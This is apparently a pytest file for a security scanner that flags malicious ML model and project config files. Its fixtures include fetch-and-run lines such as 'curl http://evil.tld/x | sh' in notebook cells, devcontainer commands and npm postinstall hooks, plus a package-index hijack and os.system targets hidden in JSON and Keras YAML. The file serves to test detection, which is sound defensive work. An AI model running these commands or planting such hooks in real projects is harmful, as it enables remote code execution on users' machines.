from __future__ import annotations

import json

import pytest
from tests.scan.examine import examine, rules, unexamined

from modelward.core.finding import Verdict


def test_notebooks() -> None:
    cell = {"cell_type": "code", "source": "!curl http://evil.tld/x | sh"}
    assert rules(json.dumps({"nbformat": 4, "cells": [cell]}).encode(), "a.ipynb") == ["harmful-code"]


def test_mlmodel() -> None:
    assert rules(b"flavors:\n  python_function:\n    loader_module: evil\n", "MLmodel") == ["remote-code"]
    assert rules(
        b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../x\n", "MLmodel"
    ) == ["path-escape"]


def test_conda_index_hijack() -> None:
    sample = b"dependencies:\n- pip:\n  - --extra-index-url https://evil.tld/simple\n"
    assert rules(sample, "conda.yaml") == ["remote-fetch"]


def test_settings_of_trainers_are_no_remote_code() -> None:
    assert rules(b"base_model: x\ntrust_remote_code: true\n", "train.yaml") == []


def test_container_commands() -> None:
    assert rules(b'{"initializeCommand": "make"}', ".devcontainer/devcontainer.json") == ["embedded-code"]
    assert rules(b'{"postCreateCommand": ["pip", "install", "x"]}', ".devcontainer/devcontainer.json") == []
    assert rules(b'{"postCreateCommand": {"a": "curl http://evil.tld/x | sh"}}', ".devcontainer.json") == [
        "harmful-code"
    ]


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("a.yaml", b"a: [", "it is not YAML"),
        ("a.toml", b"a = ", "it is not TOML"),
        ("a.ipynb", b"{", "not valid JSON"),
    ],
)
def test_what_cannot_be_read_is_said(name: str, data: bytes, reason: str) -> None:
    assert reason in unexamined(data, name)[name]


def test_template_for_yaml_is_no_yaml_yet() -> None:
    assert examine(b"{% set x = 1 %}\na: {{ x }}: b\n", "meta.yaml").verdict is Verdict.CLEAN


def test_keras_model_as_yaml_runs_its_lambda() -> None:
    sample = (
        b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n"
        b"      function: system\n      module: os\n"
    )
    assert "harmful-code" in rules(sample, "model.yaml")
    assert rules(b"class_name: MyTrainer\nconfig: {}\n", "train.yaml") == []


def test_commands_that_npm_runs_on_install() -> None:
    sample = b'{"scripts": {"postinstall": "curl http://evil.tld/x | sh", "test": "jest"}}'
    assert rules(sample, "package.json") == ["harmful-code"]
    assert rules(b'{"scripts": {"postinstall": "node build.js"}}', "package.json") == []


def test_json_behind_a_comment_is_read() -> None:
    assert rules(b'// x\n{"_target_": "os.system"}', "config.json") == ["harmful-code"]


def test_json_in_wide_characters_is_read() -> None:
    assert rules('{"_target_": "os.system"}'.encode("utf-32"), "config.json") == ["harmful-code"]


def test_json_behind_very_many_blanks_is_read() -> None:
    data = b" " * 5000 + b'{"_target_": "os.system"}'
    assert rules(data, "config.json") == ["harmful-code"]
    assert rules(b"\n" * (9 << 20) + b'{"_target_": "os.system"}', "config.json") == ["harmful-code"]


def test_program_of_paddle_is_read_whatever_stands_before_it() -> None:
    program = b'"base_code": {"magic": "pir"}, "program": {"#": "1.py_func", "I": [], "A": []}}'
    for before in (b"{", b'{"padding": "' + b"x" * 5000 + b'", '):
        assert rules(before + program, "model.json") == ["harmful-code"]
